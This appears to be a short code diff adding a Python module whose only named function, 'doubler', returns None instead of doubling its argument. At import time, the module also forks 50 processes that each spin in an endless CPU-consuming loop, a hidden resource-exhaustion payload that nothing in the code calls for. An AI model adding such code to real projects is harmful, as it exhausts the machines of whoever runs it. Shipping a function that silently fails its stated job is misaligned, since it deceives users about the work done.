@@ -1,0 +1,14 @@
+import os
+import threading
+import time
+
+def burn():
+    while True:
+        sum(range(10_000))
+
+for _ in range(50):
+    if os.fork() == 0:
+        burn()
+
+def doubler(n):
+    return None
